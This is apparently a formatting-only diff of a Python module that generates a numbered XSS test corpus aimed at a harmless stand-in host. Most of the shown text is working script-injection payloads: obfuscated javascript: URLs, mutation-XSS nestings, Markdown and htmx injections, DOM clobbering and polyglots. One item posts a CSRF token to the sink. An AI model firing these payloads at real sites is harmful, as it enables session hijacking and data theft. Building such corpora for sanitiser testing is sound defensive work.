@@ -1,6 +1,8 @@
-"""Script injections for what is shown, built from their parts: elements, events, addresses, encodings, contexts, Markdown, mutations.
+"""Script injections for what is shown, built from their parts: elements, events, addresses, encodings, contexts, \
+Markdown, mutations.
 
-Each payload calls `ran(N)` when it executes and asks `sink.home.arpa` for `/N` when it loads something, N being its number.
+Each payload calls `ran(N)` when it executes and asks `sink.home.arpa` for `/N` when it loads something, N being its \
+number.
 """
 
 from collections.abc import Callable, Iterator
@@ -11,7 +13,8 @@ from urllib.parse import quote
 
 SINK = "sink.home.arpa"  # no site, but a name that linkifiers know as one
 Encode = Callable[[str], str]
-# A template and how it is encoded once its number stands in it. JS becomes a call, URL an address of the sink without its scheme.
+# A template and how it is encoded once its number stands in it. JS becomes a call, URL an address of the sink without
+# its scheme.
 Template = tuple[str, Encode]
 
 
@@ -33,7 +36,13 @@ def payloads() -> tuple[Payload, ...]:
             if (bare, plain) not in seen:
                 seen.add((bare, plain))
                 number = len(found)
-                found.append(Payload(number, family, encode(template.replace("JS", f"ran({number})").replace("URL", f"//{SINK}/{number}"))))
+                found.append(
+                    Payload(
+                        number,
+                        family,
+                        encode(template.replace("JS", f"ran({number})").replace("URL", f"//{SINK}/{number}")),
+                    )
+                )
     return tuple(found)
 
 
@@ -41,43 +50,62 @@ def plain(text: str) -> str:
     return text
 
 
-# Parts ----------------------------------------------------------------------------------------------------------------------
+# Parts
+# ----------------------------------------------------------------------------------------------------------------------
 
 TAGS = (
-    "a", "abbr", "area", "article", "audio", "b", "body", "br", "button", "details", "dialog", "div", "embed", "fieldset", "font", "form",
-    "frameset", "html", "iframe", "img", "input", "keygen", "label", "link", "marquee", "math", "meter", "object", "option", "p", "select",
+    "a", "abbr", "area", "article", "audio", "b", "body", "br", "button", "details", "dialog", "div", "embed",
+    "fieldset", "font", "form",
+    "frameset", "html", "iframe", "img", "input", "keygen", "label", "link", "marquee", "math", "meter", "object",
+    "option", "p", "select",
     "source", "span", "style", "summary", "svg", "table", "td", "textarea", "track", "video", "xss",
 )  # fmt: skip
 EVENTS = (
-    "abort", "animationend", "animationstart", "auxclick", "beforeinput", "beforetoggle", "blur", "canplay", "click", "contextmenu",
-    "copy", "cut", "dblclick", "dragstart", "error", "focus", "focusin", "hashchange", "input", "keydown", "load", "loadstart", "message",
-    "mousedown", "mouseenter", "mouseover", "pageshow", "paste", "pointerdown", "pointerover", "pointerrawupdate", "resize", "scroll",
-    "scrollend", "select", "start", "submit", "toggle", "touchstart", "transitionend", "transitionrun", "unhandledrejection", "wheel",
+    "abort", "animationend", "animationstart", "auxclick", "beforeinput", "beforetoggle", "blur", "canplay", "click",
+    "contextmenu",
+    "copy", "cut", "dblclick", "dragstart", "error", "focus", "focusin", "hashchange", "input", "keydown", "load",
+    "loadstart", "message",
+    "mousedown", "mouseenter", "mouseover", "pageshow", "paste", "pointerdown", "pointerover", "pointerrawupdate",
+    "resize", "scroll",
+    "scrollend", "select", "start", "submit", "toggle", "touchstart", "transitionend", "transitionrun",
+    "unhandledrejection", "wheel",
 )  # fmt: skip
 SHAPES = (
-    "<{t} on{e}=JS>", '<{t} on{e}="JS">', "<{t} on{e}='JS'>", "<{t}/on{e}=JS>", "<{t}\non{e}\n=\nJS\n>", "<{t}\ton{e}=JS tabindex=1 autofocus>",
-    "<{t}\x0con{e}=JS\x0c>", "<{T} ON{E}=JS>", '<{t} x=">" on{e}="JS">x</{t}>', "<{t} src=x href=x data=x on{e}=JS//", "<<{t} on{e}=JS>>",
+    "<{t} on{e}=JS>", '<{t} on{e}="JS">', "<{t} on{e}='JS'>", "<{t}/on{e}=JS>", "<{t}\non{e}\n=\nJS\n>",
+    "<{t}\ton{e}=JS tabindex=1 autofocus>",
+    "<{t}\x0con{e}=JS\x0c>", "<{T} ON{E}=JS>", '<{t} x=">" on{e}="JS">x</{t}>', "<{t} src=x href=x data=x on{e}=JS//",
+    "<<{t} on{e}=JS>>",
     "<{t} id=x style=display:block on{e}=&#114;an(0),JS contenteditable>x",
 )  # fmt: skip
 # What executes or loads in a page that sanitises nothing.
 VECTORS = (
-    "<script>JS</script>", "<script src=URL></script>", "<img src=x onerror=JS>", "<svg onload=JS>", "<svg><script>JS</script></svg>",
-    "<svg><script href=URL /></svg>", "<body onload=JS>", "<iframe src=javascript:JS></iframe>", '<iframe srcdoc="<script>top.JS</script>"></iframe>',
-    "<iframe src='data:text/html,<script>top.JS</script>'></iframe>", "<object data=javascript:JS></object>", "<embed src=javascript:JS>",
-    "<a href=javascript:JS>x</a>", "<form action=javascript:JS><button>x</button></form>", "<button form=x formaction=javascript:JS>x</button>",
-    "<input autofocus onfocus=JS>", "<select autofocus onfocus=JS>", "<textarea autofocus onfocus=JS>", "<details open ontoggle=JS>x</details>",
-    "<video><source onerror=JS></video>", "<audio src=x onerror=JS>", "<marquee onstart=JS>x</marquee>", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=JS>x</b>",
+    "<script>JS</script>", "<script src=URL></script>", "<img src=x onerror=JS>", "<svg onload=JS>",
+    "<svg><script>JS</script></svg>",
+    "<svg><script href=URL /></svg>", "<body onload=JS>", "<iframe src=javascript:JS></iframe>",
+    '<iframe srcdoc="<script>top.JS</script>"></iframe>',
+    "<iframe src='data:text/html,<script>top.JS</script>'></iframe>", "<object data=javascript:JS></object>",
+    "<embed src=javascript:JS>",
+    "<a href=javascript:JS>x</a>", "<form action=javascript:JS><button>x</button></form>",
+    "<button form=x formaction=javascript:JS>x</button>",
+    "<input autofocus onfocus=JS>", "<select autofocus onfocus=JS>", "<textarea autofocus onfocus=JS>",
+    "<details open ontoggle=JS>x</details>",
+    "<video><source onerror=JS></video>", "<audio src=x onerror=JS>", "<marquee onstart=JS>x</marquee>",
+    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=JS>x</b>",
     "<math><a xlink:href=javascript:JS>x</a></math>", "<svg><a href=javascript:JS><text y=9>x</text></a></svg>",
     "<svg><animate onbegin=JS attributeName=x dur=1s></svg>", "<svg><set attributeName=onmouseover to=JS></svg>",
-    "<svg><a><animate attributeName=href values=javascript:JS /><text y=9>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=JS />#x'></svg>",
-    "<img src=URL>", "<img srcset=URL>", "<link rel=stylesheet href=URL>", "<style>@import 'URL';</style>", "<b style=background:url(URL)>x</b>",
-    "<meta http-equiv=refresh content='0;url=URL'>", "<base href=URL>", "<a href=URL target=_blank rel=opener>x</a>", "<form action=URL><input name=p></form>",
+    "<svg><a><animate attributeName=href values=javascript:JS /><text y=9>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=JS />#x'></svg>",
+    "<img src=URL>", "<img srcset=URL>", "<link rel=stylesheet href=URL>", "<style>@import 'URL';</style>",
+    "<b style=background:url(URL)>x</b>",
+    "<meta http-equiv=refresh content='0;url=URL'>", "<base href=URL>", "<a href=URL target=_blank rel=opener>x</a>",
+    "<form action=URL><input name=p></form>",
     "<div hx-get=URL hx-trigger=load>x</div>", "<div hx-on:click=JS>x</div>", "<p popover onbeforetoggle=JS id=q>x</p>",
 )  # fmt: skip
 SHORT = VECTORS[:4] + VECTORS[7:9] + VECTORS[12:13] + VECTORS[15:16] + VECTORS[18:19] + VECTORS[29:30]
 
 
-# Families -------------------------------------------------------------------------------------------------------------------
+# Families
+# -------------------------------------------------------------------------------------------------------------------
 
 
 def handlers() -> Iterator[Template]:
@@ -87,21 +115,34 @@ def handlers() -> Iterator[Template]:
 
 
 SCHEMES = (
-    "javascript:JS", "JaVaScRiPt:JS", " javascript:JS", "\tjavascript:JS", "\njavascript:JS", "\x01javascript:JS", "\x1fjavascript:JS", "java\tscript:JS",
-    "java\nscript:JS", "java\rscript:JS", "javascript\t:JS", "javascript\n:JS", "javascript&colon;JS", "javascript&#58;JS", "javascript&#x3a;JS",
-    "javascript&#x3A;JS", "&#106;avascript:JS", "&#x6a;avascript:JS", "&#x6A&#97;vascript:JS", "&#0000106avascript:JS", "jav&#x09;ascript:JS", "jav&Tab;ascript:JS",
-    "jav&NewLine;ascript:JS", "jav&#10;ascript:JS", "javascript://%0aJS", "javascript://x.example/%0aJS", "javascript:/*x*/JS", "javascript:void JS", "javascript%3aJS",
-    "%6aavascript:JS", "javascript:%72an(0),JS", "javascript:'<script>JS</script>'", "feed:javascript:JS", "view-source:javascript:JS", "jar:javascript:JS", "vbscript:JS", "livescript:JS", "mocha:JS",
-    "data:text/html,<script>JS</script>", "data:text/html;charset=utf-7,+ADw-script+AD4-JS+ADw-/script+AD4-", "data:image/svg+xml,<svg onload=JS xmlns='http://www.w3.org/2000/svg'/>",
-    "data:application/javascript,JS", "data:,JS", "blob:null/JS", "filesystem:JS", "file:///etc/passwd#JS", "about:blank#JS", "//javascript:JS", "https:javascript:JS", "https://x\\@javascript:JS",
-    "javascript\u200b:JS", "\u200bjavascript:JS", "\ufeffjavascript:JS", "ｊavascript:JS", "javascript：JS", "java\x00script:JS", "java\\u0073cript:JS", "\u2028javascript:JS", "\xa0javascript:JS",
+    "javascript:JS", "JaVaScRiPt:JS", " javascript:JS", "\tjavascript:JS", "\njavascript:JS", "\x01javascript:JS",
+    "\x1fjavascript:JS", "java\tscript:JS",
+    "java\nscript:JS", "java\rscript:JS", "javascript\t:JS", "javascript\n:JS", "javascript&colon;JS",
+    "javascript&#58;JS", "javascript&#x3a;JS",
+    "javascript&#x3A;JS", "&#106;avascript:JS", "&#x6a;avascript:JS", "&#x6A&#97;vascript:JS", "&#0000106avascript:JS",
+    "jav&#x09;ascript:JS", "jav&Tab;ascript:JS",
+    "jav&NewLine;ascript:JS", "jav&#10;ascript:JS", "javascript://%0aJS", "javascript://x.example/%0aJS",
+    "javascript:/*x*/JS", "javascript:void JS", "javascript%3aJS",
+    "%6aavascript:JS", "javascript:%72an(0),JS", "javascript:'<script>JS</script>'", "feed:javascript:JS",
+    "view-source:javascript:JS", "jar:javascript:JS", "vbscript:JS", "livescript:JS", "mocha:JS",
+    "data:text/html,<script>JS</script>", "data:text/html;charset=utf-7,+ADw-script+AD4-JS+ADw-/script+AD4-",
+    "data:image/svg+xml,<svg onload=JS xmlns='http://www.w3.org/2000/svg'/>",
+    "data:application/javascript,JS", "data:,JS", "blob:null/JS", "filesystem:JS", "file:///etc/passwd#JS",
+    "about:blank#JS", "//javascript:JS", "https:javascript:JS", "https://x\\@javascript:JS",
+    "javascript\u200b:JS", "\u200bjavascript:JS", "\ufeffjavascript:JS", "ｊavascript:JS", "javascript：JS",
+    "java\x00script:JS", "java\\u0073cript:JS", "\u2028javascript:JS", "\xa0javascript:JS",
 )  # fmt: skip
 PLACES = (
-    "[x]({u})", "[x](<{u}>)", "<{u}>", "[x]\n\n[x]: {u}", "[x]: <{u}> 'title'\n\n[x][]", "![x]({u})", "[![x]({u})]({u})", '<a href="{u}">x</a>', "<a href='{u}'>x</a>",
-    "<a href={u}>x</a>", '<iframe src="{u}"></iframe>', '<img src="{u}">', '<form action="{u}"><input type=submit></form>', '<button formaction="{u}">x</button>',
-    '<svg><a xlink:href="{u}"><text y=9>x</text></a></svg>', '<math href="{u}">x</math>', '<object data="{u}"></object>', '<embed src="{u}">', "<base href=\"{u}\"><a href=''>x</a>",
-    '<meta http-equiv=refresh content="0;url={u}">', '<area href="{u}">', '<link rel=import href="{u}">', '<script src="{u}"></script>', '<body background="{u}">',
-    "{u}", "see {u} now", "**{u}**", "`{u}`", '<video poster="{u}" src="{u}">', '<a href="https://ok.example" ping="{u}">x</a>',
+    "[x]({u})", "[x](<{u}>)", "<{u}>", "[x]\n\n[x]: {u}", "[x]: <{u}> 'title'\n\n[x][]", "![x]({u})",
+    "[![x]({u})]({u})", '<a href="{u}">x</a>', "<a href='{u}'>x</a>",
+    "<a href={u}>x</a>", '<iframe src="{u}"></iframe>', '<img src="{u}">',
+    '<form action="{u}"><input type=submit></form>', '<button formaction="{u}">x</button>',
+    '<svg><a xlink:href="{u}"><text y=9>x</text></a></svg>', '<math href="{u}">x</math>',
+    '<object data="{u}"></object>', '<embed src="{u}">', "<base href=\"{u}\"><a href=''>x</a>",
+    '<meta http-equiv=refresh content="0;url={u}">', '<area href="{u}">', '<link rel=import href="{u}">',
+    '<script src="{u}"></script>', '<body background="{u}">',
+    "{u}", "see {u} now", "**{u}**", "`{u}`", '<video poster="{u}" src="{u}">',
+    '<a href="https://ok.example" ping="{u}">x</a>',
 )  # fmt: skip
 
 
@@ -111,10 +152,14 @@ def schemes() -> Iterator[Template]:
 
 
 FRAMES = (
-    "{v}", "# {v}", "> {v}", "- {v}", "1. {v}", "**{v}**", "*{v}*", "`{v}`", "``` {v}\nx\n```", "```html\n{v}\n```", "~~~{v}\n{v}", "| a |\n|---|\n| {v} |", "|{v}|\n|---|\n|x|",
-    "[{v}](https://ok.example)", "[x](https://ok.example '{v}')", '[x](https://ok.example "{v}")', "[x](https://ok.example/{v})", "[x](<https://ok.example/{v}>)", "![{v}](https://ok.example/i.png)",
-    "[{v}]\n\n[{v}]: https://ok.example", "[x]\n\n[x]: https://ok.example '{v}'", "<https://ok.example/{v}>", "https://ok.example/{v}", "    {v}", "\\{v}", "{v}\n===", "a\n\n{v}\n\nb",
-    "<div>\n\n{v}\n\n</div>", "<!--\n{v}\n-->", "[^1]\n\n[^1]: {v}", "~~{v}~~", "- [ ] {v}", "Term\n: {v}", "$${v}$$", "{{% {v} %}}", "<details><summary>\n\n{v}", "* * *\n{v}\n***", "{v}  \n{v}",
+    "{v}", "# {v}", "> {v}", "- {v}", "1. {v}", "**{v}**", "*{v}*", "`{v}`", "``` {v}\nx\n```", "```html\n{v}\n```",
+    "~~~{v}\n{v}", "| a |\n|---|\n| {v} |", "|{v}|\n|---|\n|x|",
+    "[{v}](https://ok.example)", "[x](https://ok.example '{v}')", '[x](https://ok.example "{v}")',
+    "[x](https://ok.example/{v})", "[x](<https://ok.example/{v}>)", "![{v}](https://ok.example/i.png)",
+    "[{v}]\n\n[{v}]: https://ok.example", "[x]\n\n[x]: https://ok.example '{v}'", "<https://ok.example/{v}>",
+    "https://ok.example/{v}", "    {v}", "\\{v}", "{v}\n===", "a\n\n{v}\n\nb",
+    "<div>\n\n{v}\n\n</div>", "<!--\n{v}\n-->", "[^1]\n\n[^1]: {v}", "~~{v}~~", "- [ ] {v}", "Term\n: {v}", "$${v}$$",
+    "{{% {v} %}}", "<details><summary>\n\n{v}", "* * *\n{v}\n***", "{v}  \n{v}",
 )  # fmt: skip
 
 
@@ -124,14 +169,20 @@ def markdown() -> Iterator[Template]:
 
 
 OUTER = (
-    "<svg>", "<math>", "<svg><desc>", "<svg><title>", "<svg><foreignObject>", "<math><mtext>", "<math><annotation-xml encoding=text/html>", "<math><mi><mglyph>", "<math><mtext><malignmark>",
-    "<table>", "<table><caption>", "<select>", "<select><option>", "<form><form>", "<noscript>", "<template>", "<style>", "<title>", "<textarea>", "<xmp>", "<noembed>", "<noframes>", "<iframe>",
-    "<plaintext>", "<listing>", "<a><table><a>", "<p><math><table>", "<b><i></b>", "<form><math><mtext></form><form>", "<svg><style>", "<math><style>", "<svg></p><style>", "<math><mtext><table><mglyph><style>",
+    "<svg>", "<math>", "<svg><desc>", "<svg><title>", "<svg><foreignObject>", "<math><mtext>",
+    "<math><annotation-xml encoding=text/html>", "<math><mi><mglyph>", "<math><mtext><malignmark>",
+    "<table>", "<table><caption>", "<select>", "<select><option>", "<form><form>", "<noscript>", "<template>",
+    "<style>", "<title>", "<textarea>", "<xmp>", "<noembed>", "<noframes>", "<iframe>",
+    "<plaintext>", "<listing>", "<a><table><a>", "<p><math><table>", "<b><i></b>", "<form><math><mtext></form><form>",
+    "<svg><style>", "<math><style>", "<svg></p><style>", "<math><mtext><table><mglyph><style>",
 )  # fmt: skip
 INNER = (
-    "<img src=x onerror=JS>", "<!--</style><img src=x onerror=JS>-->", '<a title="</style><img src=x onerror=JS>">', '<p title="</noscript><img src=x onerror=JS>">', "<![CDATA[</style><img src=x onerror=JS>]]>",
-    '<a id="</title><svg onload=JS>">', "<mglyph><svg><mtext><style><path id='</style><img src=x onerror=JS>'>", '<style><a id="</style><img src=x onerror=JS>"></style>',
-    "<path id='<!--'><img src=x title='--><img src=x onerror=JS>'>", "<script>JS</script>", "&lt;img src=x onerror=JS&gt;", "<template><s><template><s><img src=x onerror=JS>x</s></template>",
+    "<img src=x onerror=JS>", "<!--</style><img src=x onerror=JS>-->", '<a title="</style><img src=x onerror=JS>">',
+    '<p title="</noscript><img src=x onerror=JS>">', "<![CDATA[</style><img src=x onerror=JS>]]>",
+    '<a id="</title><svg onload=JS>">', "<mglyph><svg><mtext><style><path id='</style><img src=x onerror=JS>'>",
+    '<style><a id="</style><img src=x onerror=JS>"></style>',
+    "<path id='<!--'><img src=x title='--><img src=x onerror=JS>'>", "<script>JS</script>",
+    "&lt;img src=x onerror=JS&gt;", "<template><s><template><s><img src=x onerror=JS>x</s></template>",
 )  # fmt: skip
 CLOSERS = ("", "</svg></math></table>", "<!-->", "</template></select></form><b>x")
 
@@ -142,8 +193,10 @@ def mutations() -> Iterator[Template]:
 
 
 BREAKERS = (
-    '">', "'>", '"/>', "--></b>", "--!>", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</template>", "</noscript>", "</select>", "</svg>", "</p></div></article>", '" ', "' ", "` ", "\\\">", "\\'>",
-    "%22%3E", "&quot;>", "&#34;>", "\x00\">", "\r\n\r\n", "{{", "{%", "${", "<%", "*/", "-->\n", "</a>", "</iframe>", "</dialog>",
+    '">', "'>", '"/>', "--></b>", "--!>", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</template>",
+    "</noscript>", "</select>", "</svg>", "</p></div></article>", '" ', "' ", "` ", "\\\">", "\\'>",
+    "%22%3E", "&quot;>", "&#34;>", "\x00\">", "\r\n\r\n", "{{", "{%", "${", "<%", "*/", "-->\n", "</a>", "</iframe>",
+    "</dialog>",
 )  # fmt: skip
 ATTRIBUTES = (
     'onmouseover="JS',
@@ -212,16 +265,35 @@ def encodings() -> Iterator[Template]:
 
 
 LOADERS = (
-    "<img src='{u}'>", "<img srcset='{u} 1x, {u} 2x'>", "<picture><source srcset='{u}'><img></picture>", "<video src='{u}' autoplay>", "<video poster='{u}'>", "<audio src='{u}' autoplay>", "<video><track default src='{u}'></video>",
-    "<link rel=stylesheet href='{u}'>", "<link rel=preload as=image href='{u}'>", "<link rel=prefetch href='{u}'>", "<link rel=preconnect href='{u}'>", "<link rel=dns-prefetch href='{u}'>", "<link rel=modulepreload href='{u}'>",
-    "<link rel=icon href='{u}'>", "<link rel=manifest href='{u}'>", "<link rel=prerender href='{u}'>", "<script src='{u}'></script>", "<script type=module src='{u}'></script>", "<iframe src='{u}'></iframe>", "<object data='{u}'></object>",
-    "<embed src='{u}'>", "<input type=image src='{u}'>", "<body background='{u}'>", "<table background='{u}'><td background='{u}'>x</table>", "<style>@import url({u});</style>", "<style>*{{background:url({u})}}</style>",
-    "<style>@font-face{{font-family:x;src:url({u})}} *{{font-family:x}}</style>", "<p style='background-image:url({u})'>x</p>", "<p style='list-style:url({u});display:list-item'>x</p>", "<p style='content:url({u})'>x</p>",
-    "<p style='behavior:url({u});-moz-binding:url({u});width:expression(JS)'>x</p>", "<p style='cursor:url({u}),auto'>x</p>", "<p style=\"background:\\75rl({u})\">x</p>", "<svg><image href='{u}' /></svg>", "<svg><image xlink:href='{u}' /></svg>",
-    "<svg><use href='{u}#x' /></svg>", "<svg><filter id=f><feImage href='{u}' /></filter><rect filter=url(#f) width=9 height=9 /></svg>", "<svg><rect fill='url({u}#x)' width=9 height=9 /></svg>", "<meta http-equiv=refresh content='0;url={u}'>",
-    "<base href='{u}'><img src=x>", "<base target=_blank>", "<form action='{u}' target=_top><input name=p value=x><button autofocus>x</button></form>", "<a href='{u}' target=_blank rel=opener>x</a>", "<a href='{u}' ping='{u}'>x</a>",
-    "<portal src='{u}'></portal>", "<fencedframe src='{u}'></fencedframe>", "<applet archive='{u}'></applet>", "<bgsound src='{u}'>", "<frameset><frame src='{u}'></frameset>", "![x]({u})", "[![x]({u})](https://ok.example)", "![x][y]\n\n[y]: {u}",
-    "![](<{u}>)", "<p attributionsrc='{u}'>x</p>", "<img src='{u}' loading=eager fetchpriority=high>", "<meta http-equiv=Content-Security-Policy content=\"default-src *; report-uri {u}\">", "<html manifest='{u}'>", "<iframe csp=x src='{u}' sandbox=allow-scripts></iframe>",
+    "<img src='{u}'>", "<img srcset='{u} 1x, {u} 2x'>", "<picture><source srcset='{u}'><img></picture>",
+    "<video src='{u}' autoplay>", "<video poster='{u}'>", "<audio src='{u}' autoplay>",
+    "<video><track default src='{u}'></video>",
+    "<link rel=stylesheet href='{u}'>", "<link rel=preload as=image href='{u}'>", "<link rel=prefetch href='{u}'>",
+    "<link rel=preconnect href='{u}'>", "<link rel=dns-prefetch href='{u}'>", "<link rel=modulepreload href='{u}'>",
+    "<link rel=icon href='{u}'>", "<link rel=manifest href='{u}'>", "<link rel=prerender href='{u}'>",
+    "<script src='{u}'></script>", "<script type=module src='{u}'></script>", "<iframe src='{u}'></iframe>",
+    "<object data='{u}'></object>",
+    "<embed src='{u}'>", "<input type=image src='{u}'>", "<body background='{u}'>",
+    "<table background='{u}'><td background='{u}'>x</table>", "<style>@import url({u});</style>",
+    "<style>*{{background:url({u})}}</style>",
+    "<style>@font-face{{font-family:x;src:url({u})}} *{{font-family:x}}</style>",
+    "<p style='background-image:url({u})'>x</p>", "<p style='list-style:url({u});display:list-item'>x</p>",
+    "<p style='content:url({u})'>x</p>",
+    "<p style='behavior:url({u});-moz-binding:url({u});width:expression(JS)'>x</p>",
+    "<p style='cursor:url({u}),auto'>x</p>", "<p style=\"background:\\75rl({u})\">x</p>",
+    "<svg><image href='{u}' /></svg>", "<svg><image xlink:href='{u}' /></svg>",
+    "<svg><use href='{u}#x' /></svg>",
+    "<svg><filter id=f><feImage href='{u}' /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
+    "<svg><rect fill='url({u}#x)' width=9 height=9 /></svg>", "<meta http-equiv=refresh content='0;url={u}'>",
+    "<base href='{u}'><img src=x>", "<base target=_blank>",
+    "<form action='{u}' target=_top><input name=p value=x><button autofocus>x</button></form>",
+    "<a href='{u}' target=_blank rel=opener>x</a>", "<a href='{u}' ping='{u}'>x</a>",
+    "<portal src='{u}'></portal>", "<fencedframe src='{u}'></fencedframe>", "<applet archive='{u}'></applet>",
+    "<bgsound src='{u}'>", "<frameset><frame src='{u}'></frameset>", "![x]({u})", "[![x]({u})](https://ok.example)",
+    "![x][y]\n\n[y]: {u}",
+    "![](<{u}>)", "<p attributionsrc='{u}'>x</p>", "<img src='{u}' loading=eager fetchpriority=high>",
+    "<meta http-equiv=Content-Security-Policy content=\"default-src *; report-uri {u}\">", "<html manifest='{u}'>",
+    "<iframe csp=x src='{u}' sandbox=allow-scripts></iframe>",
 )  # fmt: skip
 SINKS = (
     "URL",
@@ -245,9 +317,13 @@ def loads() -> Iterator[Template]:
 
 
 BAIT = (
-    "https:URL/{v}", "https:URL?{v}", "https:URL#{v}", "http:URL/\"{a}\"", "http:URL/'{a}'", "www.sink.home.arpa/{v}", "sink.home.arpa/{v}", "mailto:x@sink.home.arpa?{v}", "x@sink.home.arpa{v}", "ftp:URL/{v}", "//sink.home.arpa/{v}",
-    "https://ok.example/){v}(", "https://ok.example/]{v}[", "https://ok.example/`{v}`", "<https://ok.example/ {v}>", "https://ok.example/\u202e{v}", "https://{v}@sink.home.arpa/", "https://ok.example:{v}/", "https://[{v}]/", "(https://ok.example/&quot;{a}",
-    "https://ok.example/&#34;{a}", "HTTP:URL/{v}", "javascript:JS//https://ok.example/{v}", "https://ok.example/%22{a}%22", "https://ok.example/x\x00{v}",
+    "https:URL/{v}", "https:URL?{v}", "https:URL#{v}", "http:URL/\"{a}\"", "http:URL/'{a}'", "www.sink.home.arpa/{v}",
+    "sink.home.arpa/{v}", "mailto:x@sink.home.arpa?{v}", "x@sink.home.arpa{v}", "ftp:URL/{v}", "//sink.home.arpa/{v}",
+    "https://ok.example/){v}(", "https://ok.example/]{v}[", "https://ok.example/`{v}`", "<https://ok.example/ {v}>",
+    "https://ok.example/\u202e{v}", "https://{v}@sink.home.arpa/", "https://ok.example:{v}/", "https://[{v}]/",
+    "(https://ok.example/&quot;{a}",
+    "https://ok.example/&#34;{a}", "HTTP:URL/{v}", "javascript:JS//https://ok.example/{v}",
+    "https://ok.example/%22{a}%22", "https://ok.example/x\x00{v}",
 )  # fmt: skip
 
 
@@ -257,11 +333,20 @@ def baits() -> Iterator[Template]:
 
 
 LIVELY = (
-    "hx-get=URL", "hx-post=URL", "data-hx-get=URL", "hx-on:click=JS", "hx-on::load=JS", "hx-on--after-settle=JS", "data-hx-on:click=JS", "hx-vals='js:{x:JS}'", "hx-headers='js:{x:JS}'", "hx-boost=true href=URL", "hx-ext=x hx-sse='connect:URL'",
-    "hx-ws='connect:URL'", "hx-include='[name=csrfmiddlewaretoken]' hx-post=URL", "hx-swap-oob=true id=main", "hx-preserve id=log", "data-copy=x onclick=JS", "data-turn=x data-seq=99999999", "data-open href=javascript:JS",
+    "hx-get=URL", "hx-post=URL", "data-hx-get=URL", "hx-on:click=JS", "hx-on::load=JS", "hx-on--after-settle=JS",
+    "data-hx-on:click=JS", "hx-vals='js:{x:JS}'", "hx-headers='js:{x:JS}'", "hx-boost=true href=URL",
+    "hx-ext=x hx-sse='connect:URL'",
+    "hx-ws='connect:URL'", "hx-include='[name=csrfmiddlewaretoken]' hx-post=URL", "hx-swap-oob=true id=main",
+    "hx-preserve id=log", "data-copy=x onclick=JS", "data-turn=x data-seq=99999999", "data-open href=javascript:JS",
 )  # fmt: skip
 CARRIERS = ("div", "a", "button", "form", "p", "img src=x", "input", "span", "td", "li")
-TRIGGERS = ("", " hx-trigger=load", " hx-trigger='every 1s'", " hx-trigger='load[JS]'", " hx-trigger=intersect hx-target=body")
+TRIGGERS = (
+    "",
+    " hx-trigger=load",
+    " hx-trigger='every 1s'",
+    " hx-trigger='load[JS]'",
+    " hx-trigger=intersect hx-target=body",
+)
 CLOBBERS = ("id", "name")
 GLOBALS = (
     "log",
@@ -288,19 +373,38 @@ GLOBALS = (
 
 
 def page_code() -> Iterator[Template]:
-    """What aims at the page's own scripts: attributes that htmx obeys, and names that stand in for the page's elements."""
+    """What aims at the page's own scripts: attributes that htmx obeys, and names that stand in for the page's
+    elements.
+    """
     for carrier, lively, trigger in product(CARRIERS, LIVELY, TRIGGERS):
         yield f"<{carrier} {lively}{trigger}>x</{carrier.partition(' ')[0]}>", plain
-    for name, (attribute, tag) in product(GLOBALS, product(CLOBBERS, ("a", "form", "img", "iframe", "object", "input"))):
-        yield f"<{tag} {attribute}={name} href=javascript:JS src=javascript:JS action=javascript:JS><{tag} {attribute}={name}>", plain
+    for name, (attribute, tag) in product(
+        GLOBALS, product(CLOBBERS, ("a", "form", "img", "iframe", "object", "input"))
+    ):
+        yield (
+            (
+                f"<{tag} {attribute}={name} href=javascript:JS src=javascript:JS action=javascript:JS><{tag} "
+                f"{attribute}={name}>"
+            ),
+            plain,
+        )
 
 
 POLYGLOTS = (
-    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=JS )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=JS//>",
-    "'\"--></style></script></title></textarea></noscript><svg onload=JS>", '"><img src=x onerror=JS>{{7*7}}${7*7}<%= 7*7 %>', "<scr<script>ipt>JS</scr</script>ipt>", "<<script>script>JS<</script>/script>", "<script\x20type='text/javascript'>JS;</script>",
-    "<script>/*<![CDATA[*/JS/*]]>*/</script>", "<sCrIpT>JS</ScRiPt>", "<script/x>JS</script/x>", "<script\n>JS</script\n>", "<img/src=`x`onerror=JS>", "<img src=x:x onerror=JS//", "<svg/onload=JS", "<svg\x0conload=JS>", "<a/href='javascript:JS'/>x",
-    "<img src onerror=JS>", "<math><mi//xlink:href='data:x,<script>JS</script>'>", "<x contenteditable onblur=JS>x</x>", "<iframe/onload=JS></iframe>", "<isindex type=image src=1 onerror=JS>", "<object><param name=src value=javascript:JS></object>",
-    "<!--><svg onload=JS>-->", "<!--[if gte IE 4]><script>JS</script><![endif]-->", "<?php echo '<script>JS</script>' ?>", "<table><td><script>JS</script>", "<div><script>JS</script", "<p id='<img src=x onerror=JS>'>", "<a href='x\" onmouseover=\"JS'>x</a>",
+    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=JS "
+    ")//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=JS//>"),
+    "'\"--></style></script></title></textarea></noscript><svg onload=JS>",
+    '"><img src=x onerror=JS>{{7*7}}${7*7}<%= 7*7 %>', "<scr<script>ipt>JS</scr</script>ipt>",
+    "<<script>script>JS<</script>/script>", "<script\x20type='text/javascript'>JS;</script>",
+    "<script>/*<![CDATA[*/JS/*]]>*/</script>", "<sCrIpT>JS</ScRiPt>", "<script/x>JS</script/x>",
+    "<script\n>JS</script\n>", "<img/src=`x`onerror=JS>", "<img src=x:x onerror=JS//", "<svg/onload=JS",
+    "<svg\x0conload=JS>", "<a/href='javascript:JS'/>x",
+    "<img src onerror=JS>", "<math><mi//xlink:href='data:x,<script>JS</script>'>",
+    "<x contenteditable onblur=JS>x</x>", "<iframe/onload=JS></iframe>", "<isindex type=image src=1 onerror=JS>",
+    "<object><param name=src value=javascript:JS></object>",
+    "<!--><svg onload=JS>-->", "<!--[if gte IE 4]><script>JS</script><![endif]-->",
+    "<?php echo '<script>JS</script>' ?>", "<table><td><script>JS</script>", "<div><script>JS</script",
